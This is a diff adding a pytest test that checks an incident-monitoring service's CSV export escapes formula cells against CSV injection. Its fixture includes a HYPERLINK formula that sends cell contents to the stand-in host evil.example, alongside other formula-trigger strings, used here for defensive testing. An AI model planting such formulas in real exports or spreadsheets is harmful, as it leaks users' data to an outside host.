@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import dataclasses
 import io
 from datetime import UTC, datetime
 from typing import Any
@@ -14,7 +15,7 @@ from fastapi.testclient import TestClient
 
 from reports.types import Severity
 from storage.repo_workflow import Action, Disposition
-from tests.storage.storage_workload import make_update
+from tests.storage.storage_workload import make_report, make_update
 
 pytestmark = pytest.mark.timeout(120)
 
@@ -170,3 +171,26 @@ def test_media_range_request_and_escaping_paths(world: World, client: TestClient
     missing = world.add_media(inc, "clips/gone.mp4", None)
     assert client.get(f"/api/media/{missing}", headers=h).status_code == 404
     assert client.get("/api/media/999999", headers=h).status_code == 404
+
+
+def test_csv_export_neutralises_formula_cells(world: World, client: TestClient) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run as a formula starts with ``'``."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    world.store.upsert_camera(camera_id="cam-a", name=evil, location=None, url_masked="rtsp://x/s")
+    for i, title in enumerate((evil, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "a=b")):
+        inc = f"f-{i}"
+        u = make_update(inc, 1, zone="=1+1" if i == 0 else None, opened_ts_s=T0 + i)
+        report = dataclasses.replace(make_report(inc, 1), title=title)
+        assert world.store.record(u, report=report)
+    world.ops.act("f-0", Action.ASSIGN, actor="ann", owner="@owner")
+    h = bearer(world.token("wall", "viewer"))
+    body = client.get("/api/incidents/export", params={"format": "csv"}, headers=h).text
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body, newline=""))}
+    want = {"f-0": "'" + evil, "f-1": "'+SUM(1,2)", "f-2": "'-2+3", "f-3": "'@cmd"}
+    want |= {"f-4": "'\tTAB", "f-5": "'\rCR", "f-6": "a=b"}
+    assert {k: r["title"] for k, r in rows.items()} == want
+    assert {r["camera_name"] for r in rows.values()} == {"'" + evil}
+    assert rows["f-0"]["zone"] == "'=1+1" and rows["f-0"]["owner"] == "'@owner"
+    assert rows["f-1"]["peak_score"] == "0.900" and rows["f-1"]["camera_id"] == "cam-a"
+    j = client.get("/api/incidents/export", params={"format": "json"}, headers=h).json()
+    assert {i["id"]: i["title"] for i in j}["f-0"] == evil  # JSON is data, left as stored
